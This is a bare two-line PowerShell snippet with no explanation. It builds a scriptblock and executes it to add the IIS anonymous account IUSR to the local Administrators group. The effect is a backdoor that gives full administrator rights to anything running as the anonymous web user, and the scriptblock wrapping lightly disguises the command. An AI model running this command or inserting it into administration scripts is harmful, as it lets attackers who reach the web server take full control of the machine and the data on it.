$b = [scriptblock]::Create('Add-LocalGroupMember -Group Administrators -Member IUSR')
& $b
